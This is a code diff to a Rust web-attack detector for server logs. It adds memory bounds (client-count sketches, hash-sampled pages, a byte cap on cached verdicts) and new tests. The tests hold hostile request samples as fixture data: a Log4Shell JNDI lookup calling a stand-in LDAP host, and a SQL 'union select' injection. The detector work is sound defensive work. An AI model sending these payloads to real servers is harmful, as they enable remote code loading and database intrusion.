@@ -16,13 +16,15 @@ use aho_corasick::AhoCorasick;
 use hashbrown::HashMap;
 use serde_json::Value;
 
+use crate::model::limits::UNTRUSTED_BYTES_MAX;
 use crate::model::{
     Basis, Detection, HostKey, Outcome, Record, RecordKind, Ref, Timestamp, Untrusted, Visible,
 };
+use crate::threat::sketch::Counts;
 use crate::threat::strings::{Place, Verdict, is_plain, judge, reads_like_sql};
 use crate::threat::tally::{
-    Hosts, Sample, blank, counted, in_secs, mix, mix_host, mix_text, nanos, note_sample, peers,
-    ports, refs, runs, span,
+    Hosts, Sample, blank, counted, grouped, in_secs, mix, mix_host, mix_text, nanos, note_sample,
+    peers, ports, refs, runs, span,
 };
 use crate::threat::{About, Detector, Scene, Watch, Watched};
 
@@ -35,11 +37,18 @@ const HITS_MAX: usize = 500_000;
 /// Requests for what is not there, kept in one run: 2 M at 56 bytes.
 const MISSES_MAX: usize = 2_000_000;
 
-/// Pages whose ordinary answers are remembered. With more, no answer is compared.
+/// Clients whose requests are counted one by one: 1 M at 48 bytes. Of more, an estimate.
+const CLIENTS_MAX: usize = 1 << 20;
+
+/// Pages whose ordinary answers are remembered. Of more, a sample by the page's hash, so that
+/// nobody can fill the memory with pages of their own before they attack.
 const PAGES_MAX: usize = 2_000_000;
 
 /// Judged texts remembered; then the memory starts anew, which changes nothing but the time.
 const JUDGED_MAX: usize = 65_536;
+
+/// Bytes of such texts. A body in a log may have a megabyte.
+const JUDGED_BYTES_MAX: usize = 32 << 20;
 
 /// Bytes of an example that are shown.
 const EXAMPLE_BYTES_MAX: usize = 160;
@@ -75,15 +84,12 @@ impl Detector for Web {
     }
 
     fn start(&self) -> Box<dyn Watch> {
-        Box::new(Watching {
-            hosts: Hosts::default(),
-            requests: Vec::new(),
-            judged: HashMap::new(),
-            hits: Sample::new(HITS_MAX),
-            misses: Sample::new(MISSES_MAX),
-            pages: HashMap::new(),
-            has_missing: false,
-        })
+        Box::new(Watching::with(Bounds {
+            clients: CLIENTS_MAX,
+            hits: HITS_MAX,
+            misses: MISSES_MAX,
+            pages: PAGES_MAX,
+        }))
     }
 }
 
@@ -162,16 +168,51 @@ struct Miss {
 type Judged = (Verdict, Option<&'static str>);
 
 struct Watching {
+    /// Those that stand in `hits` and `misses`, and no others.
     hosts: Hosts,
-    /// Requests by the number of the source.
-    requests: Vec<u32>,
+    /// Requests of a client, of whatever kind.
+    requests: Counts<HostKey>,
     judged: HashMap<(Place, Box<str>), Judged>,
+    judged_bytes: usize,
     hits: Sample<Hit>,
     misses: Sample<Miss>,
-    /// The largest ordinary answer of a page.
-    pages: HashMap<u64, u64>,
+    pages: Pages,
     /// Whether any request at all was answered 404: then 200 means something.
     has_missing: bool,
+}
+
+/// How much is kept at most; a test takes less.
+struct Bounds {
+    clients: usize,
+    hits: usize,
+    misses: usize,
+    pages: usize,
+}
+
+/// The largest ordinary answer of each page, or, where there are too many pages, of those whose
+/// hash begins with enough zeros.
+struct Pages {
+    largest: HashMap<u64, u64>,
+    max: usize,
+    level: u32,
+}
+
+impl Pages {
+    fn answered(&mut self, page: u64, bytes: u64) {
+        if page.leading_zeros() < self.level {
+            return;
+        }
+        let largest = self.largest.entry(page).or_insert(0);
+        *largest = (*largest).max(bytes);
+        while self.largest.len() > self.max && self.level < u64::BITS {
+            self.level += 1;
+            self.largest.retain(|page, _| page.leading_zeros() >= self.level);
+        }
+    }
+
+    fn largest(&self, page: u64) -> Option<u64> {
+        self.largest.get(&page).copied()
+    }
 }
 
 /// Tools that say who they are; the second of a pair is the name shown.
@@ -331,6 +372,19 @@ const DETAILS: [(&str, Place); 9] = [
 ];
 
 impl Watching {
+    fn with(bounds: Bounds) -> Self {
+        Self {
+            hosts: Hosts::default(),
+            requests: Counts::new(bounds.clients, |host| mix_host(*host)),
+            judged: HashMap::new(),
+            judged_bytes: 0,
+            hits: Sample::new(bounds.hits),
+            misses: Sample::new(bounds.misses),
+            pages: Pages { largest: HashMap::new(), max: bounds.pages, level: 0 },
+            has_missing: false,
+        }
+    }
+
     /// The verdict on a text, and for a user agent the tool; each text is judged once.
     fn judged(&mut self, text: &str, place: Place) -> Judged {
         if matches!(place, Place::Path | Place::Query) && is_plain(text) {
@@ -345,10 +399,14 @@ impl Watching {
             None
         };
         let verdict = (judge(text, place), tool);
-        if self.judged.len() >= JUDGED_MAX {
-            self.judged.clear();
+        if text.len() <= UNTRUSTED_BYTES_MAX {
+            if self.judged.len() >= JUDGED_MAX || self.judged_bytes >= JUDGED_BYTES_MAX {
+                self.judged.clear();
+                self.judged_bytes = 0;
+            }
+            self.judged_bytes += text.len();
+            self.judged.insert((place, text.into()), verdict);
         }
-        self.judged.insert((place, text.into()), verdict);
         verdict
     }
 
@@ -395,13 +453,81 @@ impl Watching {
     }
 
     fn remember_page(&mut self, page: u64, record: &Record) {
-        if let (Some(200..=299), Some(bytes)) = (record.status, record.bytes)
-            && self.pages.len() <= PAGES_MAX
-        {
-            let largest = self.pages.entry(page).or_insert(0);
-            *largest = (*largest).max(bytes);
+        if let (Some(200..=299), Some(bytes)) = (record.status, record.bytes) {
+            self.pages.answered(page, bytes);
         }
     }
+
+    /// Some hits or misses had to go: keeps the hosts of the others alone.
+    fn forget_hosts(&mut self) {
+        let Self { hosts, hits, misses, .. } = self;
+        hosts.keep_only(|number| {
+            for hit in hits.items_mut() {
+                number(&mut hit.source);
+                hit.server.as_mut().map(&mut *number);
+            }
+            for miss in misses.items_mut() {
+                number(&mut miss.source);
+                miss.server.as_mut().map(&mut *number);
+            }
+        });
+    }
+
+    fn miss(&mut self, record: &Record, path: &str, seen: &Request) {
+        let missing = matches!(record.status, Some(400 | 403 | 404 | 405 | 410 | 444));
+        let is_expected = || EXPECTED_MISSES.iter().any(|start| path.starts_with(start));
+        if !missing || is_expected() || !self.misses.takes(seen.hash) {
+            return;
+        }
+        let miss = Miss {
+            time: seen.time,
+            source: self.hosts.number(seen.source),
+            server: seen.server.map(|server| self.hosts.number(server)),
+            port: record.dst_port.unwrap_or(0),
+            page: seen.page,
+            wanted: is_wanted(path),
+            logged: record.uid.is_none(),
+            reference: record.reference(),
+        };
+        if self.misses.push(seen.hash, miss) {
+            self.forget_hosts();
+        }
+    }
+
+    fn hit(&mut self, record: &Record, class: Class, text: Box<str>, seen: &Request) {
+        if !self.hits.takes(seen.hash) {
+            return;
+        }
+        let hit = Hit {
+            time: seen.time,
+            source: self.hosts.number(seen.source),
+            server: seen.server.map(|server| self.hosts.number(server)),
+            port: record.dst_port.unwrap_or(0),
+            class,
+            status: record.status,
+            blocked: record.outcome == Some(Outcome::Blocked),
+            bytes: record.bytes,
+            page: seen.page,
+            names_secret: seen.names_secret,
+            times: record.times.max(1),
+            logged: record.uid.is_none(),
+            example: text,
+            reference: record.reference(),
+        };
+        if self.hits.push(seen.hash, hit) {
+            self.forget_hosts();
+        }
+    }
+}
+
+/// What hits and misses have in common.
+struct Request {
+    time: i64,
+    source: HostKey,
+    server: Option<HostKey>,
+    page: u64,
+    hash: u64,
+    names_secret: bool,
 }
 
 /// A borrowed key of the memory of judged texts.
@@ -425,12 +551,8 @@ impl Watch for Watching {
         }
         let Some(src) = record.src else { return };
         let host = |addr| scene.host(addr, record.import);
-        let source = self.hosts.number(host(src));
-        if self.requests.len() <= source as usize {
-            self.requests.resize(source as usize + 1, 0);
-        }
-        let requests = &mut self.requests[source as usize];
-        *requests = requests.saturating_add(record.times.max(1));
+        let source = host(src);
+        self.requests.add(source, record.times.max(1));
         self.has_missing |= record.status == Some(404);
 
         let path = record.path.as_ref().map_or("", Untrusted::raw);
@@ -438,56 +560,30 @@ impl Watch for Watching {
         let page = mix(mix_text(path), name);
         let (classes, names_secret) = self.classes(record);
         let time = nanos(record.ts);
-        let hash = mix(mix(mix_host(host(src)), time as u64), page);
-        let server = record.dst.map(|dst| self.hosts.number(host(dst)));
-        let port = record.dst_port.unwrap_or(0);
+        let hash = mix(mix(mix_host(source), time as u64), page);
+        let server = record.dst.map(host);
+        let seen = Request { time, source, server, page, hash, names_secret };
         if classes.is_empty() {
             self.remember_page(page, record);
-            let missing = matches!(record.status, Some(400 | 403 | 404 | 405 | 410 | 444));
-            if missing && !EXPECTED_MISSES.iter().any(|start| path.starts_with(start)) {
-                let miss = Miss {
-                    time,
-                    source,
-                    server,
-                    port,
-                    page,
-                    wanted: is_wanted(path),
-                    logged: record.uid.is_none(),
-                    reference: record.reference(),
-                };
-                self.misses.push(hash, miss);
-            }
+            self.miss(record, path, &seen);
         }
         for (class, example) in classes {
-            let hit = Hit {
-                time,
-                source,
-                server,
-                port,
-                class,
-                status: record.status,
-                blocked: record.outcome == Some(Outcome::Blocked),
-                bytes: record.bytes,
-                page,
-                names_secret,
-                times: record.times.max(1),
-                logged: record.uid.is_none(),
-                example,
-                reference: record.reference(),
-            };
-            self.hits.push(hash, hit);
+            self.hit(record, class, example, &seen);
         }
     }
 
     fn finish(self: Box<Self>, _now: Timestamp, _scene: &dyn Scene) -> Watched {
         let Self { hosts, requests, hits, misses, pages, has_missing, .. } = *self;
+        let mut watched = Watched::default();
+        hits.tell(&mut watched, "attacks in requests");
+        misses.tell(&mut watched, "requests for what is not there");
+        tell_of_bounds(&requests, &pages, &mut watched);
         let (mut hits, one_in) = hits.into_items();
         hits.sort_by(|a, b| {
             let key = |h: &Hit| (hosts.key(h.source), h.class, h.time, h.reference, h.page);
             key(a).cmp(&key(b)).then_with(|| a.example.cmp(&b.example))
         });
         let site = Site { hosts: &hosts, pages, has_missing };
-        let mut detections = Vec::new();
         let mut named: BTreeSet<HostKey> = BTreeSet::new();
         for of_source in runs(&hits, |hit| (hit.source, hit.class)) {
             if is_one_odd_search(of_source) {
@@ -498,23 +594,41 @@ impl Watch for Watching {
                 named.insert(detection.subject);
             }
             note_sample(&mut detection, one_in);
-            detections.push(detection);
+            watched.detections.push(detection);
         }
         let (mut misses, one_in) = misses.into_items();
         misses.sort_by_key(|miss| (hosts.key(miss.source), miss.time, miss.page, miss.reference));
         for of_source in runs(&misses, |miss| miss.source) {
             let source = hosts.key(of_source[0].source);
-            let all = requests.get(of_source[0].source as usize).copied().unwrap_or(0);
+            let all = u64::from(requests.get(&source)).div_ceil(one_in);
             // A tool that says its name has been told already, with what it asked.
             if named.contains(&source) {
                 continue;
             }
             if let Some(mut detection) = probing(&hosts, of_source, all) {
                 note_sample(&mut detection, one_in);
-                detections.push(detection);
+                watched.detections.push(detection);
             }
         }
-        Watched::from(detections)
+        watched
+    }
+}
+
+fn tell_of_bounds(requests: &Counts<HostKey>, pages: &Pages, watched: &mut Watched) {
+    if !requests.is_exact() {
+        watched.reached(format!(
+            "more than {} web clients in all that was opened; how much each asked for beside what \
+             is missing is an estimate",
+            grouped(CLIENTS_MAX as u64)
+        ));
+    }
+    if pages.level > 0 {
+        watched.reached(format!(
+            "more than {} pages in all that was opened; whether an injection was answered with \
+             more than the page has was asked of one page in {}",
+            grouped(PAGES_MAX as u64),
+            grouped(1_u64.checked_shl(pages.level).unwrap_or(u64::MAX)),
+        ));
     }
 }
 
@@ -528,7 +642,7 @@ fn is_one_odd_search(hits: &[Hit]) -> bool {
 /// What is known of the servers' ordinary answers.
 struct Site<'a> {
     hosts: &'a Hosts,
-    pages: HashMap<u64, u64>,
+    pages: Pages,
     has_missing: bool,
 }
 
@@ -584,8 +698,8 @@ impl Site<'_> {
         let gave = |hit: &&Hit| matches!(hit.status, Some(200..=299));
         let refused = |hit: &Hit| hit.blocked || matches!(hit.status, Some(400..=599));
         let gave_away = |hit: &Hit| {
-            let larger = match (hit.bytes, self.pages.get(&hit.page)) {
-                (Some(bytes), Some(&ordinary)) if self.pages.len() <= PAGES_MAX => {
+            let larger = match (hit.bytes, self.pages.largest(hit.page)) {
+                (Some(bytes), Some(ordinary)) => {
                     bytes > ordinary.saturating_mul(LARGER_TIMES).saturating_add(LARGER_BYTES)
                 }
                 _ => false,
@@ -632,12 +746,12 @@ const fn confidence(class: Class, count: u64) -> f64 {
 }
 
 /// Requests of one source for what is not there, in the order of time.
-fn probing(hosts: &Hosts, misses: &[Miss], requests: u32) -> Option<Detection> {
+fn probing(hosts: &Hosts, misses: &[Miss], requests: u64) -> Option<Detection> {
     let wanted: BTreeSet<u64> =
         misses.iter().filter(|miss| miss.wanted).map(|miss| miss.page).collect();
     let pages: BTreeSet<u64> = misses.iter().map(|miss| miss.page).collect();
     // Of somebody who otherwise reads what is there, dead links are a part.
-    let mostly = misses.len() * 2 >= requests as usize;
+    let mostly = misses.len() as u64 * 2 >= requests;
     let fires = wanted.len() >= WANTED_MIN || (mostly && densest(misses) >= MISSES_MIN);
     if !fires {
         return None;
@@ -693,7 +807,8 @@ fn densest(misses: &[Miss]) -> usize {
 
 #[cfg(test)]
 mod tests {
-    use crate::threat::notation::check;
+    use super::*;
+    use crate::threat::notation::{Event, Stage, check, events};
 
     #[test]
     fn injections_are_told_with_what_was_answered() {
@@ -761,6 +876,62 @@ mod tests {
             "web.probing 192.0.2.7 count=3",
         );
         check("9 s: http 192.0.2.7 GET /favicon.ico 404 90 x30", "");
+    }
+
+    /// What the detector says of requests in the notation, with room for little.
+    fn watch_in_little_room(text: &str) -> (Vec<String>, Vec<String>) {
+        let bounds = Bounds { clients: 50, hits: 500, misses: 500, pages: 64 };
+        let mut watching = Box::new(Watching::with(bounds));
+        for event in events(text) {
+            let Event::Record(record) = event else { panic!("requests only") };
+            watching.record(&record, &Stage);
+        }
+        assert!(watching.hosts.len() <= 2 * 1_000, "{} hosts", watching.hosts.len());
+        assert!(watching.pages.largest.len() <= 64);
+        let watched = watching.finish(Timestamp::default(), &Stage);
+        let told = watched.problems.iter().map(|problem| problem.what.clone()).collect();
+        let of = |d: &Detection| format!("{} {}", d.detector, d.subject.addr());
+        (watched.detections.iter().map(of).collect(), told)
+    }
+
+    #[test]
+    fn an_attacker_cannot_hide_behind_a_crowd_that_comes_first() {
+        let crowd: String = (0..4_000)
+            .map(|n| {
+                let (a, b) = (n / 250, n % 250);
+                format!("1 s: http 198.18.{a}.{b} GET /page{n} 200 90\n")
+            })
+            .collect();
+        // One who mostly asks for what is there, one who mostly does not.
+        let reader =
+            "9 s: http 192.0.2.9 GET /r{n} 404 90 x20\n9 s: http 192.0.2.9 GET / 200 9 x90";
+        let prober = "9 s: http 192.0.2.7 GET /x{n} 404 90 x20";
+        let expected = ["web.probing 192.0.2.7".to_owned()];
+        for text in [
+            format!("{crowd}{reader}\n{prober}"),
+            format!("{prober}\n{reader}\n{crowd}"),
+            format!("{reader}\n{crowd}{prober}"),
+        ] {
+            let (detections, told) = watch_in_little_room(&text);
+            assert_eq!(detections, expected);
+            assert_eq!(told.len(), 2, "{told:?}");
+        }
+    }
+
+    #[test]
+    fn a_heavy_attacker_stays_among_many_light_ones_in_any_order() {
+        let light: String = (0..1_200)
+            .map(|n| {
+                let (a, b) = (n / 250, n % 250);
+                format!("1 s: http 198.18.{a}.{b} GET /?a=${{jndi:ldap://198.51.100.9/a}} 200 9\n")
+            })
+            .collect();
+        let heavy = "90 s: http 192.0.2.7 GET /a{n}?q=1+union+select+1-- 404 9 x90";
+        for text in [format!("{light}{heavy}"), format!("{heavy}\n{light}")] {
+            let (detections, told) = watch_in_little_room(&text);
+            assert!(detections.contains(&"web.sqli 192.0.2.7".to_owned()));
+            assert!(told.iter().any(|what| what.contains("attacks in requests")), "{told:?}");
+        }
     }
 
     #[test]
